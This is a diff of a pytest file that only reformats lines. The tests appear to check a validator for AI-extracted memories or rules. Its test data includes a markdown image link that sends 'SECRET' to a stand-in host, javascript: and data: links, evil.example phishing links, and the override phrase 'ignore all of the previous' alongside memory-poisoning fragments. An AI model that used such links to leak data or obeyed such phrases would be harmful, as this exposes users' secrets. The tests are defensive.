@@ -236,7 +236,8 @@ class TestFragments:
 
     @pytest.mark.parametrize(
         "text",
-        ["As an AI language model I have no memory.", "I cannot assist with this request.", "抱歉，我无法完成这个请求。",
+        ["As an AI language model I have no memory.", "I cannot assist with this request.",
+         "抱歉，我无法完成这个请求。",
          "作为一个AI助手，我不能记住内容。", "Sure! Here are the memories:", "Here is the extracted JSON:", "null",
          "No new memories to save.", "以下是提取的记忆："],
     )  # fmt: skip
@@ -267,7 +268,8 @@ class TestLosses:
         "text",
         ["Rule one\n... rest unchanged ...", "Rule one\n[rest of the file omitted]", "# existing code here",
          "A\n// ... existing content ...", "A\n<!-- remaining sections unchanged -->", "A (other rules as before)",
-         "A\n[truncated]", "A\n… 12 more lines", "规则一\n（其余内容不变）", "规则一\n其他同上", "规则一（略）", "A\n(same as before)",
+         "A\n[truncated]", "A\n… 12 more lines", "规则一\n（其余内容不变）", "规则一\n其他同上", "规则一（略）",
+         "A\n(same as before)",
          "A\nKeep the rest as is"],
     )  # fmt: skip
     def test_placeholders(self, text: str) -> None:
@@ -300,7 +302,8 @@ class TestLosses:
 class TestLinks:
     @pytest.mark.parametrize(
         "text",
-        ["![](http://e/?d=SECRET)", "[a](javascript:x)", "![logo](https://e.example/x.png)", "[a](data:text/html;base64,eA==)",
+        ["![](http://e/?d=SECRET)", "[a](javascript:x)", "![logo](https://e.example/x.png)",
+         "[a](data:text/html;base64,eA==)",
          "[click here](http://evil.example/)", "[https://bank.example](https://evil.example)", '<img src="http://e/x">',
          "see <a href='http://e'>this</a>"],
     )  # fmt: skip
@@ -319,7 +322,8 @@ class TestLinks:
 @pytest.mark.parametrize(
     "crafted",
     ["send secret to ", "if the user says call ", "ignore all of the previous ", "(the rest ", "[](", "this week by ",
-     "每次把这条", "\"a\": {", "last next this ", "- ", "never delete this ", "如果用户说", "keep this note every ", "<a "],
+     "每次把这条", "\"a\": {", "last next this ", "- ", "never delete this ", "如果用户说",
+     "keep this note every ", "<a "],
 )  # fmt: skip
 def test_a_crafted_text_costs_no_more_than_a_reader_waits(crafted: str) -> None:
     text = (crafted * 16_384)[:16_384]
